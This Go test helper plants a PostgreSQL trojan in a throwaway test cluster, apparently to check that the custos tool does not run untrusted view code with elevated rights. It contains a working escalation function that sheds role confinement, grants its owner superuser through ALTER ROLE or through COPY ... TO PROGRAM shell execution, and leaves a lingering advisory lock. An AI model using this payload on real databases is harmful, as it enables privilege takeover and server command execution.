package pgtest

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"github.com/custosdata/custos/internal/pgcluster"
)

// Trojan is an attack planted in a test database: an ordinary login role
// owns a schema with a view whose column calls a function of his. Whoever
// reads the view runs the function as themselves (current_user). The
// function first tries to leave any role it was confined to (RESET ROLE,
// SET ROLE, set_config, SET SESSION AUTHORIZATION); when it then runs as a
// superuser it makes its owner a superuser (ALTER ROLE, or, where a
// read-only transaction refuses that, through the server's shell with COPY
// ... TO PROGRAM). It also leaves a session-level advisory lock behind, and
// logs every run (a WARNING in the server log) with the roles it ran as.
type Trojan struct {
	Role   string // the attacker, an ordinary login role
	Schema string // his schema
	View   string // the view: columns id (integer) and email (text, from the function)
	// LockKey is the advisory lock the function takes for the session.
	LockKey int64
	srv     *Server
	dsn     string
}

// PlantTrojan creates the attacker's role, schema, function and view in the
// database of dsn (a superuser's DSN from NewDatabase).
func PlantTrojan(t testing.TB, dsn string) *Trojan {
	t.Helper()
	s := Get(t)
	role, password := s.NewRole(t, "dave")
	tr := &Trojan{Role: role, Schema: role + "_lab", View: "trojan", LockKey: int64(len(role))*1_000_003 + 77, srv: s, dsn: dsn}
	bin, err := pgcluster.BinDir()
	if err != nil {
		t.Fatal(err)
	}
	u, err := pgx.ParseConfig(dsn)
	if err != nil {
		t.Fatal(err)
	}
	// The server's shell connects back over the local socket, where the
	// throwaway cluster trusts its superuser.
	shell := fmt.Sprintf(`%s -X -h %s -p %d -U postgres -d postgres -c "ALTER ROLE %s SUPERUSER"`,
		filepath.Join(bin, "psql"), s.Dir(), s.Port(), role)
	ident := pgx.Identifier{role}.Sanitize()
	schema := pgx.Identifier{tr.Schema}.Sanitize()
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, s.DSNAs(role, password, u.Database))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	if err := s.Exec(ctx, "GRANT CREATE ON DATABASE "+pgx.Identifier{u.Database}.Sanitize()+" TO "+ident); err != nil {
		t.Fatal(err)
	}
	for _, stmt := range []string{
		"CREATE SCHEMA " + schema,
		"GRANT USAGE ON SCHEMA " + schema + " TO PUBLIC",
		fmt.Sprintf(`CREATE FUNCTION %s.f() RETURNS text LANGUAGE plpgsql AS $body$
BEGIN
	RAISE WARNING 'custos-trojan %%: current_user=%% session_user=%%', %s, current_user, session_user;
	PERFORM pg_advisory_lock(%d);
	BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
	BEGIN PERFORM set_config('role', 'none', true); EXCEPTION WHEN OTHERS THEN NULL; END;
	BEGIN SET ROLE postgres; EXCEPTION WHEN OTHERS THEN NULL; END;
	BEGIN SET SESSION AUTHORIZATION postgres; EXCEPTION WHEN OTHERS THEN NULL; END;
	BEGIN PERFORM set_config('default_transaction_read_only', 'off', false); EXCEPTION WHEN OTHERS THEN NULL; END;
	IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
		RAISE WARNING 'custos-trojan %%: escalating as %%', %s, current_user;
		BEGIN
			EXECUTE 'ALTER ROLE %s SUPERUSER';
		EXCEPTION WHEN OTHERS THEN
			EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal(%s);
		END;
	END IF;
	RETURN 'dave@example.com';
END $body$`, schema, literal(role), tr.LockKey, literal(role), ident, literal(shell)),
		fmt.Sprintf("CREATE VIEW %s.%s AS SELECT 1 AS id, %s.f() AS email", schema, tr.View, schema),
	} {
		if _, err := conn.Exec(ctx, stmt); err != nil {
			t.Fatalf("plant the trojan: %s: %v", stmt, err)
		}
	}
	t.Cleanup(func() {
		// The role may have become a superuser; it is dropped with the
		// objects it owns.
		_ = s.Exec(context.Background(), "ALTER ROLE "+ident+" NOSUPERUSER")
	})
	return tr
}

func literal(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

// Escalated reports whether the attacker became a superuser.
func (tr *Trojan) Escalated(t testing.TB) bool {
	t.Helper()
	conn, err := pgx.Connect(context.Background(), tr.dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(context.Background())
	var super bool
	if err := conn.QueryRow(context.Background(), `SELECT rolsuper FROM pg_roles WHERE rolname = $1`, tr.Role).Scan(&super); err != nil {
		t.Fatal(err)
	}
	return super
}

// LockHeld reports whether some session still holds the advisory lock the
// function takes: code custos ran left state in a session it kept.
func (tr *Trojan) LockHeld(t testing.TB) bool {
	t.Helper()
	conn, err := pgx.Connect(context.Background(), tr.dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(context.Background())
	var n int
	if err := conn.QueryRow(context.Background(), `SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND granted
		AND ((classid::bigint << 32) | objid::bigint) = $1`, tr.LockKey).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n > 0
}

// Runs returns, for every time the function ran, the roles it ran as
// ("current_user=… session_user=…"), read from the server's log.
func (tr *Trojan) Runs(t testing.TB) []string {
	t.Helper()
	b, err := os.ReadFile(tr.srv.LogPath())
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	prefix := "custos-trojan " + tr.Role + ": "
	for _, line := range strings.Split(string(b), "\n") {
		if i := strings.Index(line, prefix); i >= 0 && strings.Contains(line, "current_user=") {
			out = append(out, line[i+len(prefix):])
		}
	}
	return out
}
